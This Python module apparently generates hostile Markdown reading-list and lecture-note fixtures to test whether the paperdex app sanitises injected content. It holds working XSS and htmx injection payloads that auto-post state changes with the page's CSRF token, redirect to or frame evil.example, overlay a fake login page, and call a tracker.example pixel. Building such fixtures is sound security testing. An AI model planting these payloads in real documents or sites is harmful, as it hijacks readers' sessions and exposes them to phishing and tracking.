"""Hostile notes: every payload found when attacking paperdex, written as a reader's real notes file.

Each attack is one README-style entry (`* YEAR - [Title](arXiv link)` with bullets under it, as the
seed reading lists are written), so it travels the whole way a real note does: file -> segmenter ->
library -> web page. `TARGET` is the paper the htmx payloads try to tag: paper ids are a hash of
the arXiv id, so an attacker can compute them as this module does.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

# The paper the payloads try to tag or star ("Attention Is All You Need"): a predictable id.
TARGET = "p" + hashlib.sha1(b"arxiv:1706.03762").hexdigest()[:12]
HX = (f'hx-post="/papers/{TARGET}/tags" hx-vals=\'{{"tag":"pwned"}}\' hx-include="[name=csrf]" '
      'hx-trigger="load" hx-swap="none"')

# (name, note body under the entry): the payload first, then its variants and the older ones.
ATTACKS: list[tuple[str, str]] = [
    ("math in an image alt (the issue's payload)",
     f'![ $" {HX} x="y$](https://example.com/a.png)'),
    ("math in a link title",
     f'[paper page](https://example.org/p "$\\" {HX} x=\\"y$")'),
    ("math in a link title with single quotes",
     "[code](https://example.org/c '$' onmouseover='alert(1)' x='$')"),
    ("math in a heading", f'### $" {HX} x="y$ results'),
    ("math in an image alt inside a link",
     f'[![ $" {HX} x="y$](https://example.com/b.png)](https://example.org/q)'),
    ("display math spanning an attribute",
     f'![a $$" onerror="alert(1)" {HX} x="$$ b](https://example.com/c.png)'),
    ("redirect off-site through htmx",
     '![ $" hx-get="https://evil.example/x" hx-trigger="load" hx-target="body" hx-push-url="true" x="$](https://example.com/d.png)'),
    ("full-page overlay link",
     '[ $" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9" x="$](https://evil.example/login)'),
    ("tracking pixel", "Nice paper ![](https://tracker.example/pixel.gif?reader=me)"),
    ("status change", f'![ $" hx-post="/papers/{TARGET}/status" hx-vals=\'{{"status":"starred"}}\' '
                      'hx-include="[name=csrf]" hx-trigger="load" x="$](https://example.com/e.png)'),
    ("review accept", '![ $" hx-post="/review/' + TARGET + '/accept/0" hx-include="[name=csrf]" '
                      'hx-trigger="load" x="$](https://example.com/f.png)'),
    ("raw html and script", "<script>alert(1)</script> <img src=x onerror=alert(2)> "
                            '<a href="javascript:alert(3)" onclick="alert(4)">y</a>'),
    ("javascript and data links", "[x](javascript:alert(5)) [y](data:text/html;base64,PHNjcmlwdD4=) "
                                  "![z](javascript:alert(6))"),
    ("svg and iframe", '<svg onload=alert(7)></svg><iframe src="https://evil.example"></iframe>'),
    ("private-use hole characters", "\ue0000\ue001 $a$ \ue000" + "1\ue001 and $b\"<i>$"),
    ("entity-encoded quote in math", '![ $&quot; onerror=&quot;alert(8)&quot; x=&quot;$](https://example.com/g.png)'),
    ("htmx attribute as text", 'hx-post="/papers/x/tags" hx-trigger="load" stays text'),
    ("bidi override", "safe\u202etxt.exe here"),
]


def notes_file() -> str:
    """The attacks as one reading list, each under its own paper entry (arXiv ids of real papers)."""
    lines = ["# Reading list (hostile)", "", "## Attacks", ""]
    for number, (name, body) in enumerate(ATTACKS, start=1):
        lines += [f"* 2023 - [Hostile note {number}: {name}](https://arxiv.org/abs/2301.{10000 + number:05d})",
                  f"  - {body}", ""]
    return "\n".join(lines)


def blog_file() -> str:
    """The same attacks in a paper-less page of notes (a lecture summary): the Documents view shows it."""
    lines = ["# Lecture notes on attention (hostile)", ""]
    for number, (name, body) in enumerate(ATTACKS, start=1):
        lines += [f"## Part {number}: {name}", "", f"We discussed this today. {body}", ""]
    return "\n".join(lines)


def write(folder: Path) -> tuple[Path, Path]:
    """(the reading list, the paper-less page), written into `folder`."""
    notes, blog = folder / "hostile-notes.md", folder / "hostile-lecture.md"
    notes.write_text(notes_file(), encoding="utf-8")
    blog.write_text(blog_file(), encoding="utf-8")
    return notes, blog
